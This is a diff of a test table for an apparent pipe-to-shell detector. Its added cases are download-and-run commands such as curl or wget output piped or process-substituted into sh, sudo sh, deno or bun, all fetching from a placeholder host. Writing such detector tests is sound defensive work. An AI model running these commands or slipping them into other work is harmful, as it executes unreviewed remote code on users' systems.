@@ -360,6 +360,11 @@ describe("pipe-to-shell", () => {
     ["curl -o >(bash -s)", "curl -fsSL -o >(bash -s -- --yes) https://x.example/i.sh"],
     ["curl -sSo >(sudo sh)", "curl -sSo >(sudo sh) https://x.example/i.sh"],
     ["wget -qO >(sh)", "wget -qO >(sh) https://x.example/i.sh"],
+    // A download read from inside quotes: the quote closing it is no quote opening, and the pipe after it
+    // is read (the stages are read from the download on, not from the line's start, which prose may quote).
+    ['echo "$(curl)" | sh', 'echo "$(curl -fsSL https://x.example/i.sh)" | sh'],
+    ["ssh host 'curl | sh'", "ssh host 'curl -fsSL https://x.example/i.sh | sh'"],
+    ["curl | sh after an apostrophe in prose", "It's quick: curl -fsSL https://x.example/i.sh | sh"],
     ["curl | deno run -", "curl -fsSL https://x.example/i.ts | deno run -A -"],
     ["curl | bun -", "curl -fsSL https://x.example/i.js | bun -"],
     [
